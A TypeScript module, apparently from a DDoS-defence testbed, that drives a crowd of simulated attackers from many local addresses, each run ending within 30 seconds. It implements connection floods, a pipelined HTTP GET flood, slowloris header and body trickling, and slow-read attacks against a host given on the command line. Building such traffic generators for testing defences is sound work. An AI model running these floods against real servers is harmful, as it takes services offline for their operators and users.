// A few hundred attackers with real addresses, who finish the handshake: what no packet filter can tell
// from visitors by one packet. Started by flood.ts inside the attackers' namespace; ends by itself.
import { connect, type Socket } from 'node:net';

export type CrowdKind = 'connection' | 'http-get' | 'slow-headers' | 'slow-body' | 'slow-read';

const SECONDS_MAX = 30;
const TRICKLE_MS = 1000;
/** One that is refused tries again after so long: as fast as makes sense for an attacker. */
const RETRY_MS = 5;
const PIPELINED = 8;

const [host = '', port = '', network = '', kind = '', addresses = '', seconds = ''] =
  process.argv.slice(2);
const HOST = 'Host: shop.example\r\n';
let made = 0;

interface Manner {
  /** Connections that each address tries to have at a time. */
  readonly connections: number;
  readonly begin: (socket: Socket) => void;
}

const MANNERS: Readonly<Record<CrowdKind, Manner>> = {
  // Opens and closes as fast as it can, and never says a word.
  connection: {
    connections: 16,
    begin: (socket) => setTimeout(() => socket.resetAndDestroy(), 50),
  },
  'http-get': {
    connections: 4,
    begin: (socket) => {
      const ask = (): string => `GET /?q=${made++} HTTP/1.1\r\n${HOST}\r\n`;
      socket.write(Array.from({ length: PIPELINED }, ask).join(''));
      // One answer in, one request out: the pipe stays full.
      socket.on('data', (chunk: Buffer) => {
        if (chunk.includes('HTTP/1.1 ')) socket.write(ask());
      });
    },
  },
  'slow-headers': {
    connections: 50,
    begin: (socket) => trickle(socket, `GET / HTTP/1.1\r\n${HOST}X-a: `, 'b'),
  },
  'slow-body': {
    connections: 50,
    begin: (socket) =>
      trickle(socket, `POST /login HTTP/1.1\r\n${HOST}Content-Length: 1000000\r\n\r\n`, 'c'),
  },
  // Its kernel takes little on its behalf (Topology.narrowAttackersWindow).
  'slow-read': {
    connections: 50,
    begin: (socket) => {
      socket.write(`GET /large HTTP/1.1\r\n${HOST}\r\n`);
      socket.pause();
      const timer = setInterval(() => socket.read(512), TRICKLE_MS);
      socket.on('close', () => clearInterval(timer));
    },
  },
};

function trickle(socket: Socket, first: string, byte: string): void {
  socket.write(first);
  const timer = setInterval(() => socket.write(byte), TRICKLE_MS);
  socket.on('close', () => clearInterval(timer));
}

function attack({ begin }: Manner, localAddress: string): void {
  const socket = connect({ host, port: Number(port), localAddress });
  socket.on('error', () => {
    // 'close' follows.
  });
  socket.on('connect', () => begin(socket));
  // A peer that says goodbye is taken by its word.
  socket.on('end', () => socket.destroy());
  socket.on('close', () =>
    setTimeout(() => attack(MANNERS[kind as CrowdKind], localAddress), RETRY_MS),
  );
}

const manner = MANNERS[kind as CrowdKind];
for (let connection = 0; connection < manner.connections; connection++) {
  for (let index = 1; index <= Number(addresses); index++) {
    attack(manner, `${network}.${index >> 8}.${index & 255}`);
  }
}
process.on('SIGTERM', () => process.exit());
setTimeout(() => process.exit(), Math.min(Number(seconds), SECONDS_MAX) * 1000);
